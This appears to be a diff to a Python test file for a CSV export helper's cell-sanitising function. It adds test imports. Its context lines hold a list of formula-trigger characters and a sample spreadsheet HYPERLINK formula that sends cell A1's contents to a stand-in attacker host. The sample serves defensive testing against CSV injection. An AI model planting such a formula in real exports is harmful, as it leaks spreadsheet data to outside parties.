@@ -9,6 +9,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from allotment.kernel.web.tables import csv_response, safe_cell
+from tests.house.kept import in_world, people, world
+
+__all__ = ["in_world", "people", "world"]
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Click")'
